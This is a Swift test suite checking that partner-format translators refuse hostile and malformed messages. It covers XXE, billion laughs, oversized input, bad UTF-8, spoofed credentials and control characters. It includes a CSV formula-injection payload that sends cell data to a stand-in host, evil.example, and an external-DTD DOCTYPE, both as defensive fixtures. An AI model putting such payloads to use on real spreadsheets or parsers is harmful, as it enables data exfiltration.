import CanonicalEvents
import Foundation
import PartnerAdapters
import Testing

/// Broken and hostile messages: each refused whole, with every problem named at its place.
@Suite("Partner formats: hostile and broken input")
struct HostileInputTests {
    typealias F = PartnerFixtures

    static func problems(_ partner: String, _ bytes: [UInt8], from sender: String? = nil) -> [String] {
        do {
            let events = try F.translator(partner).translate(bytes, from: sender)
            Issue.record("accepted \(events.count) events")
            return []
        } catch {
            return error.problems.map(\.description)
        }
    }

    @Test("every shipped invalid message is refused with exactly the problems of its .error file", arguments: F.files("invalid"))
    func shippedInvalid(partner: String, url: URL) throws {
        let found = Self.problems(partner, try F.bytes(url))
        let expected = try F.expectedProblems(url)
        #expect(found.count == expected.count, "\(found)")
        for line in expected { #expect(found.contains { $0.contains(line) }, "\(line) in \(found)") }
    }

    @Test("XXE and billion laughs are refused before any entity is read")
    func entities() throws {
        for name in ["xxe.xml", "billion-laughs.xml"] {
            let url = F.directory.appendingPathComponent("politie/invalid/\(name)")
            #expect(Self.problems("politie", try F.bytes(url)).first?.contains("document type declaration") == true)
        }
        // Without a DOCTYPE an entity reference is just undeclared: still refused, never resolved.
        let bare = "<BVHExport afzender=\"politie\"><Registratie id=\"x\" soort=\"MELDING\"><Registratienummer>&geheim;</Registratienummer></Registratie></BVHExport>"
        #expect(Self.problems("politie", Array(bare.utf8)).first?.contains("not well-formed") == true)
    }

    @Test("content after the root element (a second document, stray text) is refused, never silently dropped; comments, processing instructions and whitespace after it are not content")
    func contentAfterRoot() throws {
        let valid = try String(contentsOf: F.directory.appendingPathComponent("politie/examples/vt-melding-en-aanhouding.xml"), encoding: .utf8)
        let lines = valid.filter { $0 == "\n" }.count + 1
        // Named where the extra content begins.
        for extra in ["<BVHExport afzender=\"politie\"/>", "junk", "\n\n<more>x</more>"] {
            let line = lines + extra.filter { $0 == "\n" }.count
            #expect(Self.problems("politie", Array((valid + extra).utf8)) == ["line \(line), column 1: extra content after the document's root element: a message is one XML document; send another as a message of its own"], "\(extra)")
        }
        for harmless in ["\n", "<!-- end -->\n", "<?archive done?>\n  \n"] {
            #expect(try F.translator("politie").translate(Array((valid + harmless).utf8), from: nil).count == 2, "\(harmless)")
        }
    }

    @Test("an oversized message is refused on its size, before parsing")
    func oversized() throws {
        let limit = F.formats.formats["shn"]!.maxBytes
        // Not JSON at all: had it been parsed, the problem would have been a different one.
        let bytes = [UInt8](repeating: UInt8(ascii: "["), count: limit + 1)
        #expect(Self.problems("shn", bytes) == ["the message is \(limit + 1) bytes; messages from shn may be at most \(limit) bytes"])
    }

    @Test("invalid UTF-8 is refused with its byte offset, in every syntax")
    func invalidUTF8() {
        for (partner, text) in [("politie", "<BVHExport afzender=\"politie\">"), ("shn", "{\"afzender\": \"shn\", \"x\": \""), ("3ro", "regel_id;soort\r\nA;")] {
            let bytes = Array(text.utf8) + [0xC3, 0x28] + Array("\"}".utf8)
            #expect(Self.problems(partner, bytes) == ["byte \(text.utf8.count) (line \(text.filter { $0 == "\n" || $0 == "\r\n" }.count + 1)): the message is not valid UTF-8"])
        }
    }

    @Test("a partner posting under another partner's credential is refused")
    func otherCredential() throws {
        let vt = try F.bytes(F.directory.appendingPathComponent("vt/examples/beoordeling-en-traject.json"))
        #expect(Self.problems("vt", vt, from: "vt-utrecht") ==
                ["/organisatie: the message says it is from vt-amsterdam-amstelland, but it was sent with the credential of vt-utrecht"])
        let politie = try F.bytes(F.directory.appendingPathComponent("politie/examples/vt-melding-en-aanhouding.xml"))
        #expect(Self.problems("politie", politie, from: "om").first?.hasSuffix("the message says it is from politie, but it was sent with the credential of om") == true)
        // The right credential is accepted.
        #expect(try F.translator("vt").translate(vt, from: "vt-amsterdam-amstelland").count == 2)
    }

    @Test("CSV formula injection is neutralised on output and read back as the value it stands for")
    func formulaInjection() throws {
        let translator = F.translator("3ro")
        let golden = try JSONValue.parse(Data(contentsOf: F.directory.appendingPathComponent("3ro/examples/advies-traject-overtreding.canonical.json")))
        var breach = try CloudEvent(structured: golden.arrayValue![2])
        let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")"
        guard case .object(var data) = breach.data else { Issue.record("no data"); return }
        data["description"] = .string(hostile)
        breach.data = .object(data)
        let csv = try translator.render([breach])
        #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"klik\"\")\""))
        for line in csv.split(separator: "\r\n") {
            for cell in line.split(separator: ";", omittingEmptySubsequences: true) {
                #expect(!["=", "+", "-", "@"].contains(cell.first.map(String.init) ?? ""), "\(cell)")
            }
        }
        let back = try translator.translate(Array(csv.utf8))
        #expect(back.first?.data["description"] == .string(hostile))
    }

    @Test("a record with 60,000 attributes more translates as without them (read in one pass, not a search per attribute)")
    func manyAttributes() throws {
        let url = F.directory.appendingPathComponent("politie/examples/vt-melding-en-aanhouding.xml")
        let plain = try String(contentsOf: url, encoding: .utf8)
        let extra = (0..<60_000).map { "x\($0)=\"\($0 % 7)\"" }.joined(separator: " ")
        // The first record only.
        func crowd(_ attributes: String) -> String { plain.replacingCharacters(in: plain.range(of: "<Registratie ")!, with: "<Registratie \(attributes) ") }
        let crowded = crowd(extra)
        #expect(crowded.utf8.count > 600_000 && crowded.utf8.count < 1_048_576)
        let translator = F.translator("politie")
        let expected = try translator.translate(Array(plain.utf8))
        #expect(!expected.isEmpty)
        #expect(try translator.translate(Array(crowded.utf8)) == expected)
        // The same attribute twice is not XML, however many there are.
        #expect(Self.problems("politie", Array(crowd(extra + " x5=\"1\"").utf8)).count == 1)
    }

    @Test("a valid message after refused ones still translates: the translator keeps no state")
    func laterMessagesFlow() throws {
        for (partner, url) in F.files("invalid") { _ = Self.problems(partner, try F.bytes(url)) }
        for (partner, url) in F.files("examples") { #expect(try !F.translator(partner).translate(try F.bytes(url)).isEmpty) }
    }
}

/// #13 items 6 and 7: what is not UTF-8 text is refused before any parser reads it.
@Suite("Partner formats: encodings and control characters")
struct EncodingTests {
    typealias F = PartnerFixtures

    @Test("XML in UTF-16 without a byte-order mark is refused, DOCTYPE or not")
    func utf16WithoutMark() throws {
        let xml = #"<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><BVHExport afzender="politie"/>"#
        for bigEndian in [false, true] {
            let bytes = xml.utf16.flatMap { unit -> [UInt8] in
                let pair = [UInt8(unit & 0xFF), UInt8(unit >> 8)]
                return bigEndian ? pair.reversed() : pair
            }
            let problems = HostileInputTests.problems("politie", bytes)
            #expect(problems.count == 1 && problems[0].contains("control character U+0000"), "\(problems)")
        }
        let declared = #"<?xml version="1.0" encoding="UTF-16"?><BVHExport afzender="politie"/>"#
        #expect(HostileInputTests.problems("politie", Array(declared.utf8)) == ["line 1: the XML declares an encoding other than UTF-8; messages are UTF-8"])
    }

    @Test("control characters in a native message are refused at their byte; tab, line feed and carriage return are text")
    func controlCharacters() throws {
        let vt = try String(contentsOf: F.directory.appendingPathComponent("vt/examples/beoordeling-en-traject.json"), encoding: .utf8)
        for control in ["\u{0001}", "\u{0000}", "\u{001B}[31m"] {
            let hostile = vt.replacingOccurrences(of: "\"naam\": \"", with: "\"naam\": \"" + control, options: [], range: vt.range(of: "\"naam\": \""))
            let problems = HostileInputTests.problems("vt", Array(hostile.utf8), from: "vt-amsterdam-amstelland")
            #expect(problems.count == 1 && problems[0].contains("control character U+00"), "\(problems)")
        }
        // Escaped in JSON, the character reaches the contract, which refuses it in free text.
        let escaped = vt.replacingOccurrences(of: "\"naam\": \"", with: "\"naam\": \"\\u0001", options: [], range: vt.range(of: "\"naam\": \""))
        let problems = HostileInputTests.problems("vt", Array(escaped.utf8), from: "vt-amsterdam-amstelland")
        #expect(problems.count == 1 && problems[0].contains("does not match the pattern"), "\(problems)")
        // The message as shipped is still taken.
        #expect(try F.translator("vt").translate(Array(vt.utf8), from: "vt-amsterdam-amstelland").count > 0)
    }
}
